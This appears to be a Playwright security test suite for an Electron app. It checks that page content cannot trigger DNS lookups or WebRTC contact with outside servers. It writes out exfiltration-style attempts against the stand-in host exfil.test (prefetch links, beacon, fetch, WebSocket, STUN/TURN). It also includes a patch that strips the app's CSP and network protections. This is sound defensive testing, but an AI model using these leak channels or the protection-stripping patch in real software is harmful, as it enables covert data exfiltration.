/** Ways to reach the network without a request: resolved names, and WebRTC. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures.ts';
import { unpackaged } from './program.ts';

interface NetLog {
  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> };
  readonly events: readonly { readonly type: number; readonly params?: unknown }[];
}

/**
 * The names below `exfil.test` that Chromium resolved or sent to a server, from its own log after the app has ended.
 */
async function resolvedNames(file: string): Promise<readonly string[]> {
  const { constants, events } = JSON.parse(await readFile(file, 'utf8')) as NetLog;
  const types = new Set(
    Object.entries(constants.logEventTypes).flatMap(([name, type]) =>
      /^(DNS|HOST_RESOLVER)/.test(name) ? [type] : [],
    ),
  );
  // Proves that the log has such events: AuthKit's own address is in it.
  expect(events.some(({ type }) => types.has(type))).toBe(true);
  const text = JSON.stringify(events.filter(({ type }) => types.has(type)));
  return [...new Set([...text.matchAll(/[\w-]+\.exfil\.test/g)].map(([name]) => name))];
}

/** Removes the protection, to show that the attempts would otherwise reach the network. */
const withoutProtection = `
const { app, protocol } = require('electron');
const { appendSwitch } = app.commandLine;
app.commandLine.appendSwitch = (name, ...value) => {
  if (name !== 'blink-settings') appendSwitch.call(app.commandLine, name, ...value);
};
app.on('session-created', (session) => {
  session.setProxy = async () => {};
  session.webRequest.onBeforeRequest = () => {};
});
app.on('web-contents-created', (_event, contents) => {
  contents.setWebRTCIPHandlingPolicy = () => {};
  contents.forcefullyCrashRenderer = () => {};
});
const { handle } = protocol;
protocol.handle = (scheme, answer) => handle.call(protocol, scheme, async (request) => {
  const response = await answer(request);
  response.headers.delete('content-security-policy');
  return response;
});`;

/** Puts names into every place where Chromium may look one up. */
async function writeNames(window: Page): Promise<void> {
  await window.evaluate(() => {
    const allow = document.createElement('meta');
    allow.httpEquiv = 'x-dns-prefetch-control';
    allow.content = 'on';
    document.head.append(allow);
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `https://${rel}.exfil.test/`;
      document.head.append(link);
    }
    const anchor = document.createElement('a');
    anchor.href = 'https://anchor.exfil.test/';
    anchor.textContent = 'away';
    document.body.append(anchor);
    new Image().src = 'https://image.exfil.test/';
    navigator.sendBeacon('https://beacon.exfil.test/');
    fetch('https://fetch.exfil.test/', { mode: 'no-cors' }).catch(() => {});
    new WebSocket('wss://socket.exfil.test/').addEventListener('error', () => {});
  });
}

test('names on the page cause no DNS query @security', async ({ app, person, folder }) => {
  const file = join(folder, 'net-log.json');
  await app.launch({ args: [`--log-net-log=${file}`] });
  await writeNames(app.window);
  // Main's own calls follow them, through the same resolver.
  await app.button('Sign in').click();
  await person.followToBrowser();
  await app.button('Cancel').click();
  await app.quit();
  expect(await resolvedNames(file)).toEqual([]);
});

test('without the protection these names cause DNS queries', unpackaged, async ({ app, folder }) => {
  const file = join(folder, 'net-log.json');
  await app.launch({ args: [`--log-net-log=${file}`], module: withoutProtection });
  await writeNames(app.window);
  await app.button('Sign in').click();
  await app.nextOpenedUrl();
  await app.button('Cancel').click();
  await app.quit();
  const names = ['dns-prefetch', 'image', 'beacon', 'fetch', 'socket'];
  expect(await resolvedNames(file)).toEqual(
    expect.arrayContaining(names.map((name) => `${name}.exfil.test`)),
  );
});

test('a page has no WebRTC @security', async ({ app }) => {
  await app.launch();
  const found = await app.window.evaluate(() =>
    ['RTCPeerConnection', 'webkitRTCPeerConnection'].filter((name) => name in window),
  );
  expect(found).toEqual([]);
});

/** Logs when a page has loaded. */
const watchPages = `require('electron').app.on('web-contents-created', (_event, contents) => {
  contents.on('did-finish-load', () => console.error('page-loaded'));
});`;

test(
  'adding a frame ends the page before the frame’s WebRTC can be used @security',
  unpackaged,
  async ({ app, folder }) => {
    const file = join(folder, 'net-log.json');
    let contacts = 0;
    const stun = createSocket('udp4', () => (contacts += 1)).bind(0, '127.0.0.1');
    const turn = createServer((socket) => {
      contacts += 1;
      socket.destroy();
    }).listen(0, '127.0.0.1');
    await Promise.all([once(stun, 'listening'), once(turn, 'listening')]);
    await app.launch({ args: [`--log-net-log=${file}`], module: watchPages, isSpawned: true });
    const loads = () => app.log().match(/page-loaded/g)?.length ?? 0;
    const before = loads();
    const crashed = app.window.waitForEvent('crash');
    const ports = { stun: stun.address().port, turn: (turn.address() as AddressInfo).port };
    app.window
      .evaluate(({ stun, turn }) => {
        const frame = document.createElement('iframe');
        document.body.append(frame);
        const own = (frame.contentWindow as (Window & typeof globalThis) | null)?.RTCPeerConnection;
        if (own === undefined) return;
        const credentials = { username: 'a', credential: 'b' };
        const connection = new own({
          iceCandidatePoolSize: 4,
          iceServers: [
            { urls: `stun:127.0.0.1:${stun}` },
            { urls: 'stun:stun.exfil.test' },
            { urls: `turn:127.0.0.1:${turn}?transport=tcp`, ...credentials },
            { urls: 'turn:turn.exfil.test?transport=tcp', ...credentials },
            { urls: 'turns:turns.exfil.test', ...credentials },
          ],
        });
        connection.createDataChannel('leak');
        void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      }, ports)
      // The page can't answer any more.
      .catch(() => {});
    await crashed;
    await app.reattachAfter(() => expect.poll(loads).toBe(before + 1));
    await expect(app.button('Sign in')).toBeVisible();
    await app.quit();
    stun.close();
    turn.close();
    expect(await resolvedNames(file)).toEqual([]);
    expect(contacts).toBe(0);
  },
);
